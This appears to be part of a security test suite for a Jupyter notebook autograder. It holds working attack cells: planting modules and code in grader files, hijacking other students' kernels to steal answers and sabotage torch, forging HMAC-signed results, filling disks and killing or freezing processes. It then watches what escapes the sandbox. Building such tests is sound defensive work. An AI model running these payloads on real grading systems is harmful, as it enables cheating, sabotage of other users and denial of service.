import course_utils
folders = set(_package_dirs_from_site())
for path in list(_host_paths()) + [os.path.realpath(course_utils.__path__[0])]:
    folders.update(os.path.join(p, "autograder") for p in _parents(path if os.path.isdir(path) else os.path.dirname(path)))
done = []
for folder in sorted(folders):
    target = os.path.join(folder, "grader.py")
    if os.path.isfile(target):
        try:
            with open(target, "a") as fh:
                fh.write(PAYLOAD)
            done.append(target)
        except OSError as exc:
            print(MARK, "cannot write", target, exc)
print(MARK, "changed", done)
'''),
    Attack("f6_plant_modules_on_sys_path", 6, doc="""
        the first folder on the kernel's sys.path (the folder the kernel zygote started in) is writable and is the
        same for the later kernels of the worker: plants a module there for every importable top-level name not
        imported yet; each records that it ran (CKATTACK_f6_ran_<name>_<pid>) and then becomes the real module.
        Without the sandbox: planted 278 modules in the zygote's folder (/tmp/ck_zygote_*), first on the sys.path
        of every later kernel of the worker, and never removed (none of them was imported by the later kernels
        tried).
        """,
           source=r'''
# CKATTACK: the first folder on sys.path is writable and outlives this notebook: plant modules there
import os, pkgutil, sys
root = os.path.realpath(sys.path[0] or os.getcwd())
proxy = """import os as _os, sys as _sys, importlib as _il
_here = _os.path.dirname(_os.path.realpath(__file__))
if _os.getpid() != PLANTER:  # another student's kernel, or the grader's own process
    try:
        open(_os.path.join(_here, "CKATTACK_f6_ran_%s_%d" % (__name__, _os.getpid())), "w").close()
    except OSError:
        pass
_saved = list(_sys.path)
_sys.path[:] = [p for p in _sys.path if _os.path.realpath(p or _os.getcwd()) != _here]
try:
    del _sys.modules[__name__]
    _real = _il.import_module(__name__)
finally:
    _sys.path[:] = _saved
_sys.modules[__name__] = _real
"""
proxy = proxy.replace("PLANTER", str(os.getpid()))
names = sorted({m.name for m in pkgutil.iter_modules() if m.name not in sys.modules and m.name.isidentifier()})
planted = []
for name in names:
    try:
        with open(os.path.join(root, name + ".py"), "w") as fh:
            fh.write(proxy)
        planted.append(name)
    except OSError as exc:
        print("CKATTACK: cannot plant in", root, exc)
        break
if planted:
    open(os.path.join(root, "CKATTACK_f6_planted.txt"), "w").write(" ".join(planted))
print("CKATTACK: planted", len(planted), "modules in", root)
'''),
    # 7. network
    Attack("g1_tcp_localhost", 7, after="imports", doc="""
        connects to 127.0.0.1 / localhost on the test's port range and common service ports, sends a line.
        Without the sandbox: reached the test's TCP listener.
        """,
           source=r'''
# CKATTACK: what listens on this machine? (a Jupyter server, a database, the grader...)
import socket
ports = list(range(47310, 47330)) + [22, 80, 443, 3000, 5000, 5432, 6379, 8000, 8080, 8888, 8889, 9000]
reached = []
for port in ports:
    for host in ("127.0.0.1", "localhost"):
        try:
            s = socket.create_connection((host, port), timeout=0.3)
        except OSError:
            continue
        try:
            s.sendall(b"CKATTACK hello from a notebook\n")
        finally:
            s.close()
        reached.append(port)
        break
print("CKATTACK: reached", reached)
'''),
    Attack("g2_unix_sockets", 7, after="imports", doc="""
        connects to every abstract UNIX socket in /proc/net/unix and to socket files under /tmp, /run, /var/run
        and home (those with the marker in their path), sends a line.
        Without the sandbox: reached the test's UNIX socket file and its abstract socket.
        """,
           source=_FIND + r'''
# CKATTACK: UNIX sockets: abstract ones listed in /proc/net/unix, socket files on disk
import socket, stat
try:
    from ipykernel.connect import get_connection_file
    mine = os.path.dirname(os.path.realpath(get_connection_file()))
except Exception:
    mine = "?"
targets = []
try:
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and parts[7].startswith("@"):
            targets.append("\0" + parts[7][1:])
except OSError:
    pass
def _is_socket(path):
    return MARK in path and not path.startswith(mine) and stat.S_ISSOCK(os.stat(path).st_mode)
targets += _walk(["/tmp", "/run", "/var/run", os.path.expanduser("~")], _is_socket, seconds=3.0)
reached = []
for target in targets:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(0.5)
    try:
        s.connect(target)
        s.sendall(b"CKATTACK hello from a notebook\n")
        reached.append(target)
    except OSError:
        pass
    finally:
        s.close()
print("CKATTACK: reached", reached, "of", len(targets))
'''),
    Attack("g3_other_kernels", 7, after="decoder", doc="""
        finds other kernels' connection files (/tmp, jupyter's runtime folder; those with the marker in their
        path), drives them with jupyter_client: steals the other student's Decoder (from its repr) and
        sabotages that kernel (nn.Sigmoid.forward's code replaced: its outputs become -1).
        Without the sandbox: 4 / 4: stole the other kernel's Decoder; that student's Sigmoid was sabotaged (the
        grader put it back before checking, but flagged the innocent student: 'Integrity: ...
        torch.nn.Sigmoid.forward').
        """,
           source=_FIND + r'''
# CKATTACK: other students' kernels run next to this one: drive them through their connection files
from jupyter_client import BlockingKernelClient
try:
    from ipykernel.connect import get_connection_file
    mine = os.path.realpath(get_connection_file())
except Exception:
    mine = ""
def _is_connection(path):
    name = os.path.basename(path)
    return MARK in path and name.endswith(".json") and (name == "connection.json" or name.startswith("kernel-"))
roots = ["/tmp", "/var/tmp", os.path.expanduser("~/.local/share/jupyter/runtime"), "/run/user"]
try:
    from jupyter_core.paths import jupyter_runtime_dir
    roots.append(jupyter_runtime_dir())
except Exception:
    pass
stolen, sabotaged = [], set()
end = time.monotonic() + 6.0
while time.monotonic() < end and not stolen:
    for path in _walk(roots, _is_connection, seconds=1.0):
        if os.path.realpath(path) == mine:
            continue
        kc = BlockingKernelClient(connection_file=path)
        try:
            kc.load_connection_file()
            kc.start_channels()
            kc.wait_for_ready(timeout=2)
            out = []
            kc.execute_interactive("print(repr(Decoder()))", timeout=2, store_history=False,
                                   output_hook=lambda m: out.append(m["content"].get("text", "")) if m["msg_type"] == "stream" else None)
            kc.execute_interactive("import torch\ntorch.nn.Sigmoid.forward.__code__ = (lambda self, input: input * 0 - 1).__code__",
                                   timeout=2, store_history=False)
            sabotaged.add(path)
            if "Sigmoid" in "".join(out):
                stolen.append("".join(out))
        except Exception as exc:
            print(MARK, path, type(exc).__name__, exc)
        finally:
            kc.stop_channels()
    time.sleep(0.2)
if stolen:
    layers = re.findall(r"\(\d+\): (\w+\(.*\))", stolen[0])
    class Decoder(nn.Module):
        def __init__(self):
            super().__init__()
            self.net = nn.Sequential(*[eval("nn." + layer) for layer in layers])
        def forward(self, z):
            return self.net(z)
    print(MARK, "stole", layers)
print(MARK, "sabotaged", sorted(sabotaged))
'''),
    # 8. resource abuse
    Attack("h1_fill_disk", 8, after="imports", doc="""
        writes 50 MB files (300 MB in all) into cwd, /tmp, home, the folder two levels up (the sandbox's shared
        scratch folder), /dev/shm and /var/tmp.
        Without the sandbox: left 50 MB files in /tmp, /root, /dev/shm and /var/tmp.
        """,
           source=r'''
# CKATTACK: leave big files everywhere this notebook can write
import os
chunk = os.urandom(1 << 20)
places = [os.getcwd(), "/tmp", os.path.expanduser("~"), os.path.dirname(os.path.dirname(os.getcwd())), "/dev/shm",
          "/var/tmp"]
written = []
for i, folder in enumerate(places):
    path = os.path.join(folder, f"CKATTACK_h1_fill_{i}.bin")
    try:
        with open(path, "wb") as fh:
            for _ in range(50):
                fh.write(chunk)
        written.append(path)
    except OSError as exc:
        print("CKATTACK: cannot write", path, exc)
print("CKATTACK: wrote", written)
'''),
    Attack("h2_huge_error_decoder", 8, after="decoder", max_score=3.0, small=True, doc="""
        the Decoder raises an exception with a 50 MB message when the grader runs it.
        Without the sandbox: 3 / 4 (the Decoder unit at 0).
        """,
           source=r'''
# CKATTACK: a 50 MB error message where the grader runs the Decoder
_HonestDecoder = Decoder
class Decoder(_HonestDecoder):
    def forward(self, z):
        raise ValueError("CKATTACK the decoder failed: " + "x" * 50_000_000)
'''),
    Attack("h3_huge_error_train_classifier", 8, after="train_classifier", small=True, doc="""
        train_classifier(..., supervised=True) raises a 50 MB message (the probe catches it per setting).
        Without the sandbox: 3.25 / 4.
        """,
           source=r'''
# CKATTACK: a 50 MB error message from train_classifier(supervised=True)
_honest_train_classifier = train_classifier
def train_classifier(encoder, classifier, dataloader, epochs=100, supervised=False):
    if supervised:
        raise RuntimeError("CKATTACK " + "y" * 50_000_000)
    return _honest_train_classifier(encoder, classifier, dataloader, epochs=epochs, supervised=supervised)
'''),
    # 9. malformed notebooks
    Attack("i1_deep_json_metadata", 9, max_score=0.0, zero=True, doc="""
        100,000 nested lists in a cell's metadata (Python's json raises RecursionError, not JSONDecodeError).
        Without the sandbox: 0 with a note (read by the grader, not the kernel: no sandbox involved).
        """,
           build=lambda nb: json.dumps(dict(nb, cells=[dict(nb["cells"][0], metadata=dict(nb["cells"][0]["metadata"],
                                                                                          deep="@@DEEP@@"))]
                                             + nb["cells"][1:])).replace('"@@DEEP@@"', "[" * 100_000 + "]" * 100_000)),
    Attack("i2_deep_json_outputs", 9, max_score=0.0, zero=True, doc="""
        100,000 nested objects in the outputs of the first code cell.
        Without the sandbox: 0 with a note (read by the grader, not the kernel: no sandbox involved).
        """,
           build=lambda nb: json.dumps(dict(nb, cells=[dict(nb["cells"][1], outputs=["@@DEEP@@"])] + nb["cells"][2:])
                                       ).replace('"@@DEEP@@"', '{"a": ' * 100_000 + "1" + "}" * 100_000, 1)),
    # 10. forging observations
    Attack("j1_forge_with_key", 10, doc="""
        finds the probe entry point in builtins (_ck_...), takes the HMAC key from its closure, and replaces it
        with a wrapper that re-signs the honest observations with the Decoder's outputs put through a Sigmoid.
        Without the sandbox: 3.75 / 4: the forged outputs passed 'Decoder output in (0, 1)'.
        """,
           source=r'''
# CKATTACK: the signing key is in the entry point's closure: re-sign better observations
import builtins, gc, hashlib, hmac, io, torch
entry_name = next((n for n in dir(builtins) if n.startswith("_ck_") and callable(getattr(builtins, n))), None)
if entry_name is None:  # renamed? look for the function by its name
    entry_name = next((n for n in dir(builtins) if getattr(getattr(builtins, n), "__name__", "") == "probe_entry"), None)
entry = getattr(builtins, entry_name)
cells = dict(zip(entry.__code__.co_freevars, [c.cell_contents for c in entry.__closure__ or ()]))
key = cells.get("key") or next(v for v in cells.values() if isinstance(v, bytes) and len(v) >= 16)
def _forged(probe_spec, names, inputs_path, out_path, nonce, *args, **kwargs):
    entry(probe_spec, names, inputs_path, out_path, nonce, *args, **kwargs)
    blob = open(out_path, "rb").read()
    magic, payload = blob[:6], blob[6 + 32:]
    obs = torch.load(io.BytesIO(payload), weights_only=True)
    if probe_spec.endswith(":probe_decoder") and isinstance(obs, dict) and "outputs" in obs:
        obs["outputs"] = [torch.sigmoid(o) for o in obs["outputs"]]
    buf = io.BytesIO()
    torch.save(obs, buf)
    payload = buf.getvalue()
    mac = hmac.new(key, nonce.encode() + b"\0" + probe_spec.encode() + b"\0" + payload, hashlib.sha256).digest()
    with open(out_path, "wb") as fh:
        fh.write(magic + mac + payload)
setattr(builtins, entry_name, _forged)
print("CKATTACK: entry point", entry_name, "replaced; key of", len(key), "bytes")
'''),
    Attack("j2_forge_audit_hook", 10, doc="""
        sys.addaudithook: when the Decoder's probe opens its inputs (after the grader restored the originals; the
        probe is told by the entry point's frame), swaps in a probe_module that puts the Decoder's outputs through
        a Sigmoid and puts the original back before returning.
        Without the sandbox: 3.75 / 4: the forged outputs passed 'Decoder output in (0, 1)', nothing flagged.
        """,
           source=r'''
# CKATTACK: an audit hook runs after the grader's restore: patch the probe then, and undo it before it checks again
import os, sys, torch
import course_utils.probes.autoencoder_probing as P
_orig_probe_module = P.probe_module
def _forged_probe_module(objects, inputs, name, input_key):
    P.probe_module = _orig_probe_module
    obs = _orig_probe_module(objects, inputs, name, input_key)
    if name == "Decoder" and isinstance(obs, dict) and "outputs" in obs:
        obs["outputs"] = [torch.sigmoid(o) for o in obs["outputs"]]
    return obs
def _probe_spec():
    frame = sys._getframe(2)
    while frame is not None:
        if "probe_spec" in frame.f_code.co_varnames:
            return str(frame.f_locals.get("probe_spec", ""))
        frame = frame.f_back
    return ""
def _hook(event, args):
    if event == "open" and args and isinstance(args[0], str) and os.path.basename(args[0]).startswith("in_"):
        if _probe_spec().endswith(":probe_decoder"):
            P.probe_module = _forged_probe_module
sys.addaudithook(_hook)
print("CKATTACK: audit hook installed")
'''),
    Attack("j3_patch_probe_module", 10, flagged=True, doc="""
        replaces course_utils.probes.autoencoder_probing.probe_module (Sigmoid on the Decoder's outputs).
        Without the sandbox: 3.5 / 4, flagged: the grader restored the original before the probe.
        """,
           source=r'''
# CKATTACK: replace the probe's helper
import torch
import course_utils.probes.autoencoder_probing as P
_orig_probe_module = P.probe_module
def _forged_probe_module(objects, inputs, name, input_key):
    obs = _orig_probe_module(objects, inputs, name, input_key)
    if name == "Decoder" and isinstance(obs, dict) and "outputs" in obs:
        obs["outputs"] = [torch.sigmoid(o) for o in obs["outputs"]]
    return obs
P.probe_module = _forged_probe_module
'''),
    Attack("j4_patch_probe_code", 10, doc="""
        replaces probe_module.__code__ in place (the function object the grader kept stays the same) with code that
        calls a copy of the original and puts the Decoder's outputs through a Sigmoid.
        Without the sandbox: 3.5 / 4, flagged: the grader restored the function's code before the probe.
        """,
           source=r'''
# CKATTACK: change the probe's code in place: the function object the grader kept is the same one
import types
import course_utils.probes.autoencoder_probing as P
_f = P.probe_module
P._ck_original_probe_module = types.FunctionType(_f.__code__, _f.__globals__, "probe_module_copy", _f.__defaults__,
                                                 _f.__closure__)
def _forged(objects, inputs, name, input_key):  # runs with the probe module's globals
    obs = _ck_original_probe_module(objects, inputs, name, input_key)
    if name == "Decoder" and isinstance(obs, dict) and "outputs" in obs:
        obs["outputs"] = [torch.sigmoid(o) for o in obs["outputs"]]
    return obs
_f.__code__ = _forged.__code__
print("CKATTACK: probe_module's code replaced")
'''),
    # 11. forward passes that ignore their layers
    Attack("k1_decoder_constant_zeroed", 11, after="decoder", max_score=3.75, fails=("Decoder computes the specified layers",),
           doc="""
        the specified layers with every weight zeroed, and a forward that returns 0.5 everywhere (what
        the layers give with zero weights).
        Without the sandbox: 3.75 / 4: 'computes the specified layers' failed (the grader loads its own weights).
        """,
           source=r'''
# CKATTACK: the right layers (the parameter count matches), all weights zero, a constant picture out
_HonestDecoder = Decoder
class Decoder(_HonestDecoder):
    def __init__(self):
        super().__init__()
        with torch.no_grad():
            for p in self.parameters():
                p.zero_()
    def forward(self, z):
        return torch.full((z.shape[0], 3, 64, 64), 0.5)
'''),
    Attack("k2_decoder_sigmoid_zeros", 11, after="decoder", max_score=3.75, fails=("Decoder computes the specified layers",),
           doc="""
        zeroes its weights (in __init__ and again in forward) and returns torch.sigmoid(torch.zeros(...)).
        Without the sandbox: 3.75 / 4: 'computes the specified layers' failed.
        """,
           source=r'''
# CKATTACK: a Sigmoid of zeros, with the weights kept at zero
_HonestDecoder = Decoder
class Decoder(_HonestDecoder):
    def __init__(self):
        super().__init__()
        self._zero()
    def _zero(self):
        with torch.no_grad():
            for p in self.parameters():
                p.zero_()
    def forward(self, z):
        self._zero()
        return torch.sigmoid(torch.zeros(z.shape[0], 3, 64, 64))
'''),
    Attack("k3_encoder_zeros_zeroed", 11, after="encoder", max_score=3.25, fails=("Encoder computes the specified layers",),
           doc="""
        the Encoder's layers with zero weights and a forward that returns torch.zeros(B, 24, 4, 4).
        Without the sandbox: 3.25 / 4: 'Encoder computes the specified layers' failed.
        """,
           source=r'''
# CKATTACK: an Encoder whose weights are zero and whose output is zeros, whatever the input
_HonestEncoder = Encoder
class Encoder(_HonestEncoder):
    def __init__(self):
        super().__init__()
        with torch.no_grad():
            for p in self.parameters():
                p.zero_()
    def forward(self, x):
        return torch.zeros(x.shape[0], 24, 4, 4)
'''),
    Attack("k4_decoder_constant_random_weights", 11, after="decoder", max_score=3.75,
           fails=("Decoder computes the specified layers",),
           doc="""
        control: a constant 0.5 output with the layers' random weights left as they are.
        Without the sandbox: 3.75 / 4: 'computes the specified layers' failed.
        """,
           source=r'''
# CKATTACK: a constant picture, the layers left alone
_HonestDecoder = Decoder
class Decoder(_HonestDecoder):
    def forward(self, z):
        return torch.full((z.shape[0], 3, 64, 64), 0.5)
'''),
    # 5. signalling the grader (graded last: an attack that stops the grader hangs the batch)
    Attack("z3_sigstop_parent", 5, after="imports", doc="""
        os.kill(os.getppid(), SIGSTOP): freezes the process that forked this kernel.
        Without the sandbox: stopped the kernel zygote: the grader waits for it forever (the batch hangs).
        """,
           source=r'''
# CKATTACK: freeze the process that started me
import os, signal
os.kill(os.getppid(), signal.SIGSTOP)
print("CKATTACK: stopped", os.getppid())
'''),
    Attack("z2_kill_everything", 5, after="imports", doc="""
        os.kill(-1, SIGKILL): every process this user may signal.
        Without the sandbox: killed the grader itself: the batch never finished.
        """,
           source=r'''
# CKATTACK: kill every process I am allowed to
import os, signal
os.kill(-1, signal.SIGKILL)
'''),
    Attack("z4_sigstop_all_python", 5, after="imports", doc="""
        iterates /proc and SIGSTOPs every python process but itself.
        Without the sandbox: stopped the grader's processes: the batch hangs.
        """,
           source=r'''
# CKATTACK: freeze every Python process but me (the grader is one)
import os, signal
me = os.getpid()
stopped = []
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == me:
        continue
    try:
        cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if b"python" in cmdline:
        try:
            os.kill(int(pid), signal.SIGSTOP)
            stopped.append(int(pid))
        except OSError:
            pass
print("CKATTACK: stopped", stopped)
'''),
    Attack("z1_killpg_all_groups", 5, after="imports", doc="""
        os.killpg(SIGKILL) on every process group it can see but its own (the parent's first).
        Without the sandbox: killed the other student's kernel: that student (4 / 4 honestly) got 3 / 4.
        """,
           source=r'''
# CKATTACK: kill every process group but mine, the parent's first
import os, signal
mine = os.getpgid(0)
groups = [os.getpgid(os.getppid())]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            groups.append(os.getpgid(int(pid)))
        except OSError:
            pass
for group in dict.fromkeys(groups):
    if group not in (mine, 0):
        try:
            os.killpg(group, signal.SIGKILL)
        except OSError:
            pass
'''),
]
ATTACK = {a.name: a for a in ATTACKS}
# Honest submissions, before, among and after the attacks (a later one in the same worker would show what
# an earlier attack left behind); just before the signal attacks, which may stop the batch.
HONEST = {"00_honest_good": ("solution", 4.0), "00_honest_wrong": ("wrong_decoder", 3.25),
          "m_honest_good": ("solution", 4.0), "m_honest_wrong": ("wrong_decoder", 3.25),
          "y_honest_good": ("solution", 4.0), "y_honest_wrong": ("wrong_decoder", 3.25)}


def attack_notebook(attack: Attack, wrong: dict) -> str:
    """The file a student hands in for ``attack`` (the wrong-decoder sample with the attack cell)."""
    if attack.build is not None:
        return attack.build(copy.deepcopy(wrong))
    nb = _insert_after(wrong, attack.after, attack.source) if attack.after else _append(wrong, attack.source)
    return json.dumps(nb, indent=1)


def build_corpus(root: Path) -> dict:
    """Write every notebook in nbgrader's submitted/<student>/<pset>/ layout; return {student: base sample}."""
    samples = make_sample_submissions(PSET, root / "_samples")
    loaded = {name: _read(path) for name, path in samples.items()}
    sub = root / "submitted"
    written = {}
    for student, (sample, _score) in HONEST.items():
        path = sub / student / PSET / NB
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(loaded[sample], indent=1))
        written[student] = sample
    for attack in ATTACKS:
        path = sub / attack.name / PSET / NB
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(attack_notebook(attack, loaded["wrong_decoder"]))
        written[attack.name] = "wrong_decoder"
    shutil.rmtree(root / "_samples", ignore_errors=True)  # not a submission (discover would take it for a student)
    return written


# ---- watching the machine -------------------------------------------------------------------------

def _package_dir(name: str) -> Path | None:
    spec = importlib.util.find_spec(name)
    locations = list(spec.submodule_search_locations or []) if spec else []
    return Path(locations[0]).resolve() if locations else None


def _site_packages() -> list:
    import site

    return sorted({str(Path(p).resolve()) for p in site.getsitepackages() + [site.getusersitepackages()]
                   if Path(p).is_dir()})


def _stat_tree(root, recursive: bool = True) -> dict:
    """{path: [size, mtime_ns]} of the files under ``root`` (no __pycache__), or of its entries."""
    out = {}
    root = Path(root)
    if not root.is_dir():
        return out
    if not recursive:
        for e in os.scandir(root):
            if e.name != "__pycache__":
                st = e.stat(follow_symlinks=False)
                out[e.path] = [st.st_size, st.st_mtime_ns if not e.is_dir(follow_symlinks=False) else 0]
        return out
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d != "__pycache__"]
        for f in files:
            try:
                st = os.lstat(os.path.join(folder, f))
            except OSError:
                continue
            out[os.path.join(folder, f)] = [st.st_size, st.st_mtime_ns]
    return out


def _installed_state() -> dict:
    """What the attacks on the installation would change: strict parts, and parts others may edit meanwhile."""
    home = Path.home()
    strict = {}
    for sp in _site_packages():
        strict.update(_stat_tree(sp, recursive=False))
    torch_dir = _package_dir("torch")
    if torch_dir:
        strict.update(_stat_tree(torch_dir))
    strict.update(_stat_tree(home / ".ipython" / "profile_default" / "startup"))
    shared = {}  # the repository's packages (other engineers edit them while the batch runs)
    for name in ("course_utils", "autograder"):
        folder = _package_dir(name)
        if folder:
            shared.update(_stat_tree(folder))
    shared.update(_stat_tree(home / ".ipython"))
    return {"strict": strict, "shared": shared}


def _changed(before: dict, after: dict) -> list:
    return sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))


def _has_marker(path) -> bool:
    try:
        return MARKER.encode() in Path(path).read_bytes() or MARKER in str(path)
    except OSError:
        return MARKER in str(path)


def _hash_tree(root: Path) -> dict:
    out = {}
    for path in sorted(root.rglob("*")):
        try:
            out[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "dir"
        except OSError:
            out[str(path.relative_to(root))] = "unreadable"
    return out


def _marker_processes(batch_tmp: str) -> list:
    """Processes whose name or command line holds the marker, and that this batch started (their environment
    names its temporary folder), or whose environment cannot be read."""
    me = {os.getpid()} | {p.pid for p in psutil.Process().parents()}
    found = []
    for p in psutil.process_iter(["pid", "name", "cmdline"]):
        try:
            if p.pid in me:
                continue
            text = (p.info["name"] or "") + " " + " ".join(p.info["cmdline"] or [])
            if MARKER not in text:
                continue
            try:
                ours = any(batch_tmp in v for v in p.environ().values())
            except psutil.Error:
                ours = True
            if ours:
                found.append({"pid": p.pid, "name": p.info["name"], "cmdline": " ".join(p.info["cmdline"] or [])[:200]})
        except psutil.Error:
            continue
    return found


def _marker_files(shared: Path, batch_tmp: Path) -> list:
    """Files the attacks tried to create outside the sandbox (they all hold the marker in their name or text)."""
    import glob

    home = Path.home()
    patterns = ["/tmp/*CKATTACK*", "/var/tmp/*CKATTACK*", "/dev/shm/*CKATTACK*", f"{home}/*CKATTACK*",
                f"{home}/.ipython/**/*CKATTACK*", f"{home}/.local/lib/python*/site-packages/*CKATTACK*",
                f"{REPO}/*CKATTACK*", f"{REPO}/course_utils/**/*CKATTACK*", f"{REPO}/autograder/**/*CKATTACK*",
                "/autograder/**/*CKATTACK*", "/results/*CKATTACK*", f"{home}/results/*CKATTACK*"]
    patterns += [f"{sp}/*CKATTACK*" for sp in _site_packages()]
    torch_dir = _package_dir("torch")
    if torch_dir:
        patterns += [f"{torch_dir}/*CKATTACK*", f"{torch_dir}/**/*CKATTACK*"]
    found = set()
    for pattern in patterns:
        found.update(glob.glob(pattern, recursive=True))
    # the grader's temporary folders of this and of other runs of this test (checked inside, below)
    found = {p for p in found if not Path(p).name.startswith(f"{MARKER}_tmp_")}
    # files whose text the attacks write into
    texts = ["/autograder/results/results.json", "/results/results.json", f"{home}/results/results.json"]
    for sp in _site_packages():
        texts += [f"{sp}/sitecustomize.py", f"{sp}/usercustomize.py"]
    found.update(p for p in texts if Path(p).is_file() and _has_marker(p))
    # what the attacks left in the grader's temporary folder (the sandbox's scratch lives there) ...
    if batch_tmp.is_dir():
        found.update(str(p) for p in batch_tmp.rglob("*CKATTACK*"))
    # ... and in the batch folder (the output folder), but the submissions and the test's own socket
    found.update(str(p) for p in shared.rglob("*CKATTACK*")
                 if "submitted" not in p.parts and p.name != "CKATTACK.sock")
    return sorted(found)


class Listeners:
    """A TCP port on 127.0.0.1, a UNIX socket file and an abstract UNIX socket; records who connects."""

    def __init__(self, folder: Path):
        self.hits: list = []
        self.socks = []
        tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        for port in PORTS:
            try:
                tcp.bind(("127.0.0.1", port))
                break
            except OSError:
                continue
        self.port = tcp.getsockname()[1]
        path = folder / "CKATTACK.sock"
        path.unlink(missing_ok=True)
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind(str(path))
        abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        abstract.bind(f"\0{MARKER}-listener-{os.getpid()}")
        self.where = {"tcp": self.port, "unix": str(path), "abstract": f"@{MARKER}-listener-{os.getpid()}"}
        for s, label in ((tcp, "tcp"), (unix, "unix"), (abstract, "abstract")):
            s.listen(16)
            s.settimeout(0.5)
            self.socks.append(s)
            threading.Thread(target=self._serve, args=(s, label), daemon=True).start()
        self.running = True

    def _serve(self, s, label):
        while getattr(self, "running", True):
            try:
                conn, _addr = s.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            try:
                conn.settimeout(1)
                data = conn.recv(200)
            except OSError:
                data = b""
            finally:
                conn.close()
            self.hits.append(f"{label}: {data[:100]!r}")

    def close(self):
        self.running = False
        for s in self.socks:
            s.close()


# The instructor's grading script, saved in the batch folder next to submitted/ (where a course's grade.py
# usually is) and run from the repository root (`python <batch>/grade.py`): the grader runs with that folder first
# on its sys.path, as it would on the instructor's machine.
GRADE_SCRIPT = r'''"""Grade the class in submitted/ (the test writes this file next to it)."""
import json
import sys

from autograder.batch import grade_class
from autograder.grader import GradeOptions

if __name__ == "__main__":
    cfg = json.load(sys.stdin)
    report = grade_class(cfg["pset"], cfg["source"], cfg["out"], workers=cfg["workers"],
                         options=GradeOptions(**cfg["options"]), progress=False)
    with open(cfg["report"], "w") as fh:
        json.dump({"errors": report.errors, "killed": report.killed, "stopped": report.stopped,
                   "seconds": report.seconds, "graded": report.graded}, fh)
'''


def _kill_tree(pid: int) -> None:
    """End a process this test started and everything under it."""
    try:
        root = psutil.Process(pid)
        procs = root.children(recursive=True) + [root]
    except psutil.Error:
        return
    for p in procs:
        try:
            p.kill()
        except psutil.Error:
            pass
    psutil.wait_procs(procs, timeout=10)


_TAG = re.compile(rf"{MARKER}_([a-z]\d)_")


def _watch_scratch(batch_tmp: Path, out: Path, leftovers: dict, ran: set) -> None:
    """While the batch runs: files the attacks wrote in the sandbox that are still on this machine after their
    submission was graded (a submission's scratch is to be emptied when it ends), and planted code that ran."""
    try:
        paths = list(batch_tmp.rglob(f"*{MARKER}*"))
    except OSError:  # a folder removed while it was listed
        return
    for path in paths:
        if path.name.startswith(f"{MARKER}_f6_ran_"):
            ran.add(path.name)
        m = _TAG.search(path.name)
        attack = next((a.name for a in ATTACKS if m and a.name.startswith(m.group(1) + "_")), None)
        if attack and (out / "results" / f"{attack}.json").exists():
            leftovers.setdefault(attack, set()).add(str(path.relative_to(batch_tmp)))


def _run_batch(shared: Path, batch_tmp: Path) -> dict:
    """grade_class in a subprocess, run by a script in the batch folder (TMPDIR: ``batch_tmp``), ended if it
    hangs; what happened."""
    out = shared / "out"
    report_file = shared / "report.json"
    cfg = {"pset": PSET, "source": str(shared), "out": str(out), "workers": WORKERS, "options": OPTIONS,
           "report": str(report_file)}
    script = shared / "grade.py"
    script.write_text(GRADE_SCRIPT)
    # PYTHONPATH: this checkout's autograder (whatever the editable install points to), as pytest imports it
    env = dict(os.environ, TMPDIR=str(batch_tmp), PYTHONPATH=os.pathsep.join([str(REPO)] + [
        p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]))
    with open(shared / "batch.log", "wb") as log:
        proc = subprocess.Popen([sys.executable, str(script)], stdin=subprocess.PIPE, stdout=log, stderr=log,
                                cwd=str(REPO), env=env)
        proc.stdin.write(json.dumps(cfg).encode())
        proc.stdin.close()
        start = last = time.monotonic()
        count, hung, running = -1, "", []
        leftovers, ran = {}, set()
        while proc.poll() is None:
            time.sleep(1)
            _watch_scratch(batch_tmp, out, leftovers, ran)
            n = len(list((out / "results").glob("*.json"))) if (out / "results").is_dir() else 0
            now = time.monotonic()
            if n != count:
                count, last = n, now
            if now - last > STALL or now - start > BATCH_DEADLINE:
                running = sorted(p.name for p in (out / ".running").glob("*")) if (out / ".running").is_dir() else []
                hung = (f"no new result for {now - last:.0f} s" if now - last > STALL else
                        f"still running after {BATCH_DEADLINE} s") + f"; being graded: {', '.join(running) or 'none'}"
                _kill_tree(proc.pid)
                break
        proc.wait()
    state = {"seconds": time.monotonic() - start, "hung": hung, "running": running, "returncode": proc.returncode,
             "leftovers": {k: sorted(v)[:10] for k, v in leftovers.items()}, "planted_ran": sorted(ran)[:20]}
    if report_file.is_file():
        state.update(json.loads(report_file.read_text()))
    state["log_tail"] = (shared / "batch.log").read_text(errors="replace")[-3000:]
    return state


def _grade_and_watch(shared: Path) -> dict:
    cases = build_corpus(shared)
    before = _installed_state()
    listeners = Listeners(shared)
    batch_tmp = Path(tempfile.mkdtemp(prefix=f"{MARKER}_tmp_"))
    try:
        state = _run_batch(shared, batch_tmp)
        out = shared / "out"
        state["processes"] = _marker_processes(str(batch_tmp))
        first = _hash_tree(out) if out.is_dir() else {}
        time.sleep(LATER)
        state["processes_later"] = _marker_processes(str(batch_tmp))
        later = _hash_tree(out) if out.is_dir() else {}
        state["out_changed_later"] = _changed(first, later)
        after = _installed_state()
        state["installed_changed"] = _changed(before["strict"], after["strict"])
        state["repo_changed_with_marker"] = [p for p in _changed(before["shared"], after["shared"]) if _has_marker(p)]
        state["marker_files"] = _marker_files(shared, batch_tmp)
        state["connections"] = list(listeners.hits)
        state["listeners"] = listeners.where
        grades = out / "grades.csv"
        state["csv_students"] = ([row["student"] for row in csv.DictReader(grades.open(newline=""))]
                                 if grades.is_file() else None)
        state["cases"] = cases
    finally:
        listeners.close()
